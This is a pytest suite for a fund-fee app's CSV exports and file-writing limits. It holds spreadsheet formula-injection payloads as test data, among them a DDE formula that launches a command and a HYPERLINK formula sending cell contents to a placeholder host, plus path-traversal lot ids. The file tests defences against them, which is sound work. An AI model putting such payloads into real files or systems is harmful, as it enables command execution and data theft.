"""Exports are safe to open in a spreadsheet, and the app writes only where it may.

Formula neutralising follows OWASP "CSV Injection": a cell starting with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return gets a leading ``'``. Documented exception
(``core/csv_safety.py``, SECURITY.md): a cell that is a plain number such as ``-5.00`` is left as
it is, so numeric columns stay numeric.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import re
import subprocess
import sys
from decimal import Decimal
from pathlib import Path

import pytest

from janus_gui.core.csv_safety import neutralize, safe_row
from janus_gui.core.lots import Lot, LotSchedule
from janus_gui.core.lots_csv import write_lots, write_rows
from tests.helpers.hardening import NASTY, ROOT, run_cli

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"\A[+-]?[0-9]+(\.[0-9]+)?\Z")
PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://example.invalid/?x="&A1,"open")',
    "=cmd|' /C calc'!A0",
    "-2-3",
    "+",
    "-",
    "@",
    "-5.00\n=1+1",
]
PLAIN = ["-5.00", "-5", "+1.25", "0.50", "12"]


def is_safe(cell: str) -> bool:
    """A cell a spreadsheet will not run: no trigger first, or a plain number."""
    return not cell.startswith(TRIGGERS) or bool(PLAIN_NUMBER.match(cell))


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


# -- the core writer -----
@pytest.mark.parametrize("payload", PAYLOADS)
def test_neutralize_prefixes_every_trigger(payload: str) -> None:
    assert neutralize(payload) == "'" + payload


@pytest.mark.parametrize("number", PLAIN)
def test_plain_numbers_stay_numbers(number: str) -> None:
    """The documented trade-off: ``-5.00`` is data, not a formula, and is kept as is."""
    assert neutralize(number) == number
    assert neutralize(Decimal(number)) == str(Decimal(number))


def test_safe_row_handles_every_value_type() -> None:
    row = safe_row([None, dt.date(2012, 4, 20), Decimal("-0.50"), 3, True, "=1", "ok"])
    assert row == ["", "2012-04-20", "-0.50", "3", "True", "'=1", "ok"]


def test_core_writers_neutralise_lot_ids() -> None:
    lots = [
        Lot(dt.date(2012, 3, 20), Decimal("1.000"), payload, seq)
        for seq, payload in enumerate(PAYLOADS, start=1)
    ]
    for source in (lots, LotSchedule.from_lots(lots)):
        buffer = io.StringIO(newline="")
        assert write_lots(buffer, source) == len(PAYLOADS)
        rows = list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
        assert sorted(r[2] for r in rows[1:]) == sorted("'" + p for p in PAYLOADS)
        assert all(is_safe(c) for r in rows for c in r)
    buffer = io.StringIO(newline="")
    write_rows(buffer, ["=header", "b"], [[p, "-5.00"] for p in PAYLOADS])
    assert all(is_safe(c) for c in _cells(buffer.getvalue()))
    assert "-5.00" in _cells(buffer.getvalue())


# -- the batch command -----
BATCH_HEADER = (
    "account_id,portfolio,share_class,redeem_date,nav,redeem_shares,purchase_date,shares,lot_id\n"
)


def _accounts() -> list[str]:
    """One account id per payload (the suffix keeps them distinct once trimmed)."""
    return [f"{payload}#{number}" for number, payload in enumerate(PAYLOADS)]


def _batch_input(path: Path) -> None:
    rows = [BATCH_HEADER]
    for number, (payload, account_id) in enumerate(zip(PAYLOADS, _accounts(), strict=True)):
        account = f'"{account_id.replace(chr(34), chr(34) * 2)}"'
        lot = f'"{number}{payload.replace(chr(34), chr(34) * 2)}"'
        rows.append(f"{account},P13,Service II,2012-04-20,10.00,5,2012-03-20,10,{lot}\n")
    rows.append('"=bad",P13,Service II,2012-04-20,10.00,5,2012-03-20,"=1+1",x\n')
    path.write_text("".join(rows), encoding="utf-8", newline="")


def test_batch_output_is_neutralised(tmp_path: Path, capsys) -> None:
    source, target = tmp_path / "accounts.csv", tmp_path / "fees.csv"
    _batch_input(source)
    code, out, err = run_cli(["batch", "--input", str(source), "--output", str(target)], capsys)
    assert code == 3, err  # the last account is bad on purpose: finished with a failed account
    rows = list(csv.DictReader(target.open(encoding="utf-8", newline="")))
    # Account ids are trimmed on input; what is left still starts with a trigger.
    assert [r["account_id"] for r in rows] == ["'" + a.strip() for a in [*_accounts(), "=bad"]]
    # Lot ids holding a control character (tab, CR, line break) are refused (an error row,
    # itself neutralised); every other payload is a computed account.
    invisible = [not payload.isprintable() for payload in PAYLOADS]
    for row, refused in zip(rows[:-1], invisible, strict=True):
        assert row["status"] == ("error" if refused else "ok"), row
        assert refused or row["fee"] == "0.50"  # 5 shares, 31 days, NAV 10.00, 1%: $0.50
    assert sum(invisible) == 3
    assert rows[-1]["status"] == "error" and "=1+1" in rows[-1]["error"]
    assert all(is_safe(c) for r in rows for c in r.values())


def test_batch_never_overwrites_its_own_input(tmp_path: Path, capsys) -> None:
    source = tmp_path / "accounts.csv"
    _batch_input(source)
    before = source.read_bytes()
    code, _out, err = run_cli(["batch", "--input", str(source), "--output", str(source)], capsys)
    assert source.read_bytes() == before, "the input file was destroyed"
    assert code == 2 and "Traceback" not in err


def test_failed_batch_leaves_an_existing_output_untouched(tmp_path: Path, capsys) -> None:
    target = tmp_path / "fees.csv"
    target.write_text("last month's results\n", encoding="utf-8")
    code, out, err = run_cli(
        ["batch", "--input", str(NASTY / "wrong_header.csv"), "--output", str(target)], capsys
    )
    assert (code, out) == (2, "")
    assert "header" in err
    assert target.read_text(encoding="utf-8") == "last month's results\n"


def test_failed_batch_leaves_no_partial_output(tmp_path: Path, capsys) -> None:
    """A file that turns out not to be UTF-8 half-way: no half-written result is left behind."""
    source, target = tmp_path / "accounts.csv", tmp_path / "fees.csv"
    good = "A{n},P13,Service II,2012-04-20,10.00,5,2012-03-20,10,x\n"
    body = "".join(good.format(n=n) for n in range(3000)).encode()
    source.write_bytes(BATCH_HEADER.encode() + body + "Z,P13,M\xfcller\n".encode("latin-1"))
    code, out, err = run_cli(["batch", "--input", str(source), "--output", str(target)], capsys)
    assert (code, out) == (2, "")
    assert "utf-8" in err.lower()
    assert not target.exists() or target.stat().st_size == 0, (
        f"a failed batch left {target.stat().st_size} bytes of partial results"
    )


# -- the workspace export -----
def test_workspace_csv_export_is_neutralised(tmp_path: Path) -> None:
    from dataclasses import replace

    from janus_gui.core.workspace_file import RedeemMode
    from janus_gui.ui.workspace import report
    from janus_gui.workspace.outcome import LotColumns, compute, make_request
    from tests.helpers.golden_rule import SERVICE_II_RULE

    rule = replace(SERVICE_II_RULE, reason="=1+1 reason")  # a formula where text is expected
    n = len(PAYLOADS)
    columns = LotColumns(
        [dt.date(2012, 3, 20)] * n,
        [Decimal("1.000")] * n,
        list(PAYLOADS),
        [False] * n,
        list(range(1, n + 1)),
    )
    request = make_request(dt.date(2012, 4, 20), RedeemMode.ALL, "", "10.00")
    outcome = compute(columns, request, rule, 0)
    context = report.ReportContext("@Portfolio", "-Service II", "all", "=2", 0)
    path = report.write_csv(tmp_path / "export.csv", outcome, context)
    text = path.read_bytes().decode("utf-8")  # no newline translation: keep CRs
    rows = list(csv.reader(io.StringIO(text, newline="")))
    cells = [cell for row in rows for cell in row]
    assert all(is_safe(c) for c in cells), [c for c in cells if not is_safe(c)]
    for payload in PAYLOADS:
        assert "'" + payload in cells
    assert "'@Portfolio" in cells and "'-Service II" in cells
    assert ["fee_that_may_apply", "1.30"] in rows  # 13 shares x 10.00 x 1%, all held 31 days


# -- where files are written -----
def test_autosave_path_ignores_user_text(qapp, qtbot, repo, tmp_path: Path) -> None:
    """Lot ids and names never become file names: the autosave lives in the user data folder."""
    from janus_gui import userdirs
    from janus_gui.ui.workspace import autosave

    path = autosave.own_autosave_path()
    assert path.parent == userdirs.data_dir() / "autosave"
    assert path.name == f"workspace-{os.getpid()}.janusws"


_SCRIPT = r"""
import datetime as dt, sys
from decimal import Decimal
from pathlib import Path
from janus_gui import cli
from janus_gui.core.models import Citation, Evidence, FeeRule
from janus_gui.core import workspace_file
from janus_gui.core.workspace_file import LotText, RedeemMode, Workspace
from janus_gui.ui.workspace import report
from janus_gui.workspace.outcome import LotColumns, compute, make_request

out = Path(sys.argv[1])
for argv in (
    ["fee", "--lots", sys.argv[2], "--portfolio", "P13", "--share-class", "Service II",
     "--redeem-date", "2012-04-20", "--shares", "1", "--nav", "10.00", "--json"],
    ["batch", "--input", sys.argv[3], "--output", str(out / "fees.csv")],
    ["lookup", "../../etc/x"],
):
    try:
        cli.main(argv)
    except SystemExit:
        pass
rule = FeeRule(applies=True, rate=Decimal("0.01"), holding_period_days=60, lot_order="FIFO",
               base="redemption value", recipient="Portfolio", reason="r", rule_id="r",
               citation=Citation("002_9a3a92caa630b855.txt", 96, 103, "a"),
               evidence=Evidence.DOCUMENTED)
columns = LotColumns([dt.date(2012, 3, 20)], [Decimal("1.000")], ["../../etc/x"],
                            [False], [1])
request = make_request(dt.date(2012, 4, 20), RedeemMode.ALL, "", "10.00")
outcome = compute(columns, request, rule, 0)
report.write_csv(out / "export.csv", outcome,
                 report.ReportContext("P13", "Service II", "all", "", 0))
workspace_file.save(out / "desk.janusws",
                    Workspace("P13", "Service II", lots=(LotText("2012-03-20", "1", "../../x"),)))
"""


def _listing(folder: Path) -> dict[str, int]:
    found = {}
    for base, dirs, files in os.walk(folder):
        dirs[:] = [
            d
            for d in dirs
            if d
            not in {".git", "__pycache__", ".pytest_cache", ".ruff_cache", ".hypothesis", ".venv"}
        ]
        for name in files:
            path = Path(base, name)
            found[str(path.relative_to(folder))] = path.stat().st_mtime_ns
    return found


# Files another engineer may be editing while this runs are not the app's doing; anything the
# app itself could write has one of these endings or sits in data/ or resources/.
APP_WRITES = (
    ".log",
    ".ini",
    ".conf",
    ".janusws",
    ".csv",
    ".pdf",
    ".tmp",
    ".sqlite",
    "-journal",
    "-wal",
    "-shm",
)


def test_nothing_written_outside_chosen_paths_and_user_dirs(tmp_path: Path) -> None:
    home, chosen, user = tmp_path / "home", tmp_path / "chosen", tmp_path / "home" / "janus"
    for folder in (home, chosen):
        folder.mkdir()
    batch = tmp_path / "in" / "accounts.csv"
    batch.parent.mkdir()
    _batch_input(batch)
    env = {k: v for k, v in os.environ.items() if not k.startswith(("XDG_", "JANUS_GUI_"))}
    env.update(
        HOME=str(home),
        JANUS_GUI_USER_DIR=str(user),
        PYTHONPATH=str(ROOT),
        PYTHONDONTWRITEBYTECODE="1",
        QT_QPA_PLATFORM="offscreen",
    )
    repo_before = _listing(ROOT)
    inputs_before = _listing(tmp_path / "in")
    proc = subprocess.run(
        [sys.executable, "-c", _SCRIPT, str(chosen), str(NASTY / "utf8_bom.csv"), str(batch)],
        cwd=tmp_path,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert proc.returncode == 0, proc.stderr
    repo_after = _listing(ROOT)
    changed = {p for p, m in repo_after.items() if repo_before.get(p) != m}
    suspicious = sorted(
        p
        for p in changed
        if p.endswith(APP_WRITES) or p.startswith(("data/", "resources/")) or "/" not in p
    )
    assert suspicious == [], f"files written in the checkout: {suspicious}"
    assert sorted(os.listdir(chosen)) == ["desk.janusws", "export.csv", "fees.csv"]
    assert _listing(tmp_path / "in") == inputs_before
    assert sorted(os.listdir(tmp_path)) == ["chosen", "home", "in"]
    outside_user = [p for p in _listing(home) if not p.startswith("janus/")]
    assert outside_user == [], f"written in HOME outside the app's folders: {outside_user}"
    assert not list(tmp_path.rglob("x")), "a lot id became a file name"
